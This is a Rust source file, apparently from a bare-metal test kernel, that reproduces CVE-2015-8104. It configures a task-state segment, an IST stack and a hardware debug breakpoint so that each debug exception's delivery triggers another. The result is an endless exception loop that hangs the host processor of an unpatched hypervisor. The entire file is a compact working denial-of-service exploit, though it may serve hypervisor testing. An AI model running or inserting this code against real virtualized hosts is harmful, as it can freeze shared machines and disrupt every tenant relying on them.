//! A debug exception whose delivery causes the next one (CVE-2015-8104): the stack that it is delivered
//! on, always the same by the task-state segment, has a breakpoint on the first word that is pushed. On a
//! processor that the hypervisor does not interrupt, this never ends.

use crate::cpu::debug::{self, Kind};
use crate::cpu::interrupts::{self, Frame};
use core::arch::asm;
use core::sync::atomic::{AtomicU64, Ordering};

const WORDS: usize = 1024;
#[repr(align(16))]
struct Stack([AtomicU64; WORDS]);
static STACK: Stack = Stack([const { AtomicU64::new(0) }; WORDS]);
/// The 64-bit task-state segment (SDM volume 3, figure 8-11), from the middle of the first word on: that aligns its
/// fields of 64 bits.
static TASK: [AtomicU64; 14] = [const { AtomicU64::new(0) }; 14];
static DESCRIPTORS: [AtomicU64; 5] = [const { AtomicU64::new(0) }; 5];

fn nothing(_: &mut Frame) {}

/// Never returns.
pub fn run() {
    let top = STACK.0.as_ptr() as u64 + (WORDS * 8) as u64;
    // The segment begins at half of the first word, so its field at 0x24 (stack 1) is the word at 0x28.
    let task = TASK.as_ptr() as u64 + 4;
    TASK[5].store(top, Ordering::SeqCst);
    let limit = 103;
    let low = limit | (task & 0xff_ffff) << 16 | 0x89 << 40 | (task >> 24 & 0xff) << 56;
    for (place, value) in DESCRIPTORS.iter().zip([0, 0x00af_9b00_0000_ffff, 0x00cf_9300_0000_ffff, low, task >> 32]) {
        place.store(value, Ordering::SeqCst);
    }
    #[repr(C, packed)]
    struct Pointer(u16, u64);
    let pointer = Pointer(39, DESCRIPTORS.as_ptr() as u64);
    // SAFETY: the first three descriptors are those in use; the task-state segment is static.
    unsafe { asm!("lgdt [{}]", "ltr {:x}", in(reg) &raw const pointer, in(reg) 24, options(nostack)) };
    interrupts::on_exception(debug::VECTOR, nothing);
    interrupts::use_stack(debug::VECTOR, 1);
    debug::arm(0, top - 8, Kind::Write8);
    loop {
        STACK.0[WORDS - 1].store(1, Ordering::SeqCst);
    }
}
